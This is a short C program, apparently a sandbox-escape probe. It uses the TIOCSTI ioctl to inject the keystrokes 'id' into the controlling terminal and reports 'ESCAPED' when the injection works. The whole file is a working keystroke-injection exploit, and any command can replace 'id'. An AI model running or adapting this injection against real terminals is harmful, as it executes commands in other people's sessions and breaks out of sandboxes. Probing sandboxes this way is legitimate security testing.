/* Inject keystrokes with TIOCSTI into whatever terminal fd 0 is (the 2017 sandbox-escape classic). SV. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>

int main(void)
{
	int tty = open("/dev/tty", O_RDWR);
	printf("/dev/tty: %s\n", tty < 0 ? "no controlling terminal" : "OPEN");
	const char *cmd = "id\n";
	for (const char *c = cmd; *c; c++)
		if (ioctl(tty < 0 ? 0 : tty, TIOCSTI, c) == 0)
			puts("ESCAPED: TIOCSTI accepted");
	return 0;
}
